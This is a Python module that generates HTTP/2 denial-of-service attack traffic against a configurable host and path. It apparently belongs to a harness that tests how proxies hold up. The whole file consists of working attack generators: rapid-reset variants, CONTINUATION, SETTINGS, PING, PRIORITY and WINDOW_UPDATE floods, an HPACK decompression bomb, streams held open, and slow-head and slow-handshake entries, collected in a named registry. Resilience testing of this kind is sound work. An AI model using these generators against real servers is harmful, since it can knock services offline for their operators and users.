"""The attacks: each is what one hostile connection sends, as chunks without end or until it has said all it says."""

from collections.abc import Iterator
from dataclasses import dataclass

import frames
from frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, SETTINGS

# Streams, or frames, in a chunk: large enough that making them is not what an attack waits for.
CHUNK = 200


@dataclass(frozen=True)
class Goal:
    scheme: str
    host: str
    path: str

    def block(self, method: str = "GET") -> bytes:
        return frames.request(method, self.scheme, self.host, self.path)


def streams() -> Iterator[range]:
    """A client's stream identifiers, a chunk at a time."""
    first = 1
    while first + 2 * CHUNK < 1 << 31:
        yield range(first, first + 2 * CHUNK, 2)
        first += 2 * CHUNK


def each_stream(head: bytes, then, ended: bool = True) -> Iterator[bytes]:
    """Request after request, and after each what makes it an attack."""
    flags = END_HEADERS | (END_STREAM if ended else 0)
    for chunk in streams():
        yield b"".join(frames.frame(HEADERS, flags, stream, head) + then(stream) for stream in chunk)


def again_and_again(one: bytes, first: bytes = b"") -> Iterator[bytes]:
    if first:
        yield first
    whole = one * CHUNK
    while True:
        yield whole


def rapid_reset(goal: Goal) -> Iterator[bytes]:
    return each_stream(goal.block(), frames.reset)


def large_heads(goal: Goal) -> Iterator[bytes]:
    filler = b"".join(frames.literal(b"x-filler-%02d" % number, b"f" * 985) for number in range(13))
    return each_stream(goal.block() + filler, frames.reset)


def reset_by_no_increment(goal: Goal) -> Iterator[bytes]:
    return each_stream(goal.block(), lambda stream: frames.window_update(stream, 0))


def reset_by_overflow(goal: Goal) -> Iterator[bytes]:
    return each_stream(goal.block(), lambda stream: frames.window_update(stream, (1 << 31) - 1))


def reset_by_data_after_end(goal: Goal) -> Iterator[bytes]:
    return each_stream(goal.block(), lambda stream: frames.frame(DATA, 0, stream, b"x"))


def reset_by_head_after_end(goal: Goal) -> Iterator[bytes]:
    again = frames.literal(b"x-late", b"1")
    return each_stream(goal.block(), lambda stream: frames.frame(HEADERS, END_HEADERS, stream, again))


def reset_by_own_priority(goal: Goal) -> Iterator[bytes]:
    return each_stream(goal.block(), lambda stream: frames.priority(stream, stream))


def reset_by_short_priority(goal: Goal) -> Iterator[bytes]:
    return each_stream(goal.block(), lambda stream: frames.frame(PRIORITY, 0, stream, b"\0\0\0\0"))


def reset_by_wrong_length(goal: Goal) -> Iterator[bytes]:
    head = goal.block("POST") + frames.literal(b"content-length", b"10")
    return each_stream(head, lambda stream: frames.frame(DATA, END_STREAM, stream, b"short"), ended=False)


def continuation(goal: Goal) -> Iterator[bytes]:
    first = frames.frame(HEADERS, END_STREAM, 1, goal.block())
    return again_and_again(frames.frame(CONTINUATION, 0, 1, frames.literal(b"x-more", b"m" * 64)), first)


def empty_continuation(goal: Goal) -> Iterator[bytes]:
    return again_and_again(frames.frame(CONTINUATION, 0, 1), frames.frame(HEADERS, END_STREAM, 1, goal.block()))


def settings(_: Goal) -> Iterator[bytes]:
    return again_and_again(frames.settings(initial_window_size=65535))


def ping(_: Goal) -> Iterator[bytes]:
    return again_and_again(frames.frame(PING, 0, 0, b"hostile!"))


def priority(_: Goal) -> Iterator[bytes]:
    return again_and_again(b"".join(frames.priority(stream, 0) for stream in range(1, 65, 2)))


def window_update(_: Goal) -> Iterator[bytes]:
    return again_and_again(frames.window_update(0, 1))


def empty_data(goal: Goal) -> Iterator[bytes]:
    return again_and_again(frames.frame(DATA, 0, 1), frames.frame(HEADERS, END_HEADERS, 1, goal.block("POST")))


def hpack_bomb(goal: Goal) -> Iterator[bytes]:
    """One field that fills the dynamic table, then heads that name it 10,000 times in a byte each: 40 MB from 10 kB."""
    name = b"x-bomb"
    entry = frames.literal(name, b"b" * (4096 - frames.ENTRY_OVERHEAD - len(name)), indexed=True)
    yield frames.frame(HEADERS, END_HEADERS | END_STREAM, 1, goal.block() + entry)
    newest = b"\xbe" * 10_000
    for chunk in streams():
        for stream in chunk[1:] if chunk[0] == 1 else chunk:
            yield frames.frame(HEADERS, END_HEADERS | END_STREAM, stream, goal.block() + newest)


def never_finished(goal: Goal) -> Iterator[bytes]:
    return each_stream(goal.block("POST"), lambda _: b"", ended=False)


def unknown_frames(_: Goal) -> Iterator[bytes]:
    return again_and_again(frames.frame(0xFB, 0, 0, b"x"))


def unread(goal: Goal) -> Iterator[bytes]:
    """Large answers to a window of nothing, as many at once as any proxy here lets a client have."""
    yield b"".join(frames.frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, goal.block()) for n in range(100))


# By name. What is sent is HTTP/2 after the preface; `unread` and the slow head have rules of their own.
KINDS = {
    "rapid reset": rapid_reset,
    "rapid reset, 13 kB heads": large_heads,
    "reset by WINDOW_UPDATE of 0": reset_by_no_increment,
    "reset by window overflow": reset_by_overflow,
    "reset by DATA after the end": reset_by_data_after_end,
    "reset by HEADERS after the end": reset_by_head_after_end,
    "reset by PRIORITY on itself": reset_by_own_priority,
    "reset by short PRIORITY": reset_by_short_priority,
    "reset by wrong content-length": reset_by_wrong_length,
    "CONTINUATION flood": continuation,
    "empty CONTINUATION flood": empty_continuation,
    "SETTINGS flood": settings,
    "PING flood": ping,
    "PRIORITY flood": priority,
    "WINDOW_UPDATE flood": window_update,
    "empty DATA flood": empty_data,
    "unknown frames": unknown_frames,
    "HPACK bomb": hpack_bomb,
    "streams never finished": never_finished,
}
QUIET = "nothing hostile"
UNREAD = "answers never read"
SLOW_HEAD = "slow head, HTTP/1.1"
SLOW_HANDSHAKE = "slow handshake"
# Those that hold connections open, a byte at a time.
SLOW = (SLOW_HEAD, SLOW_HANDSHAKE)
# A handshake record that announces 512 bytes, and the beginning of what it holds (RFC 8446 §4, §5.1).
HANDSHAKE_BEGUN = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
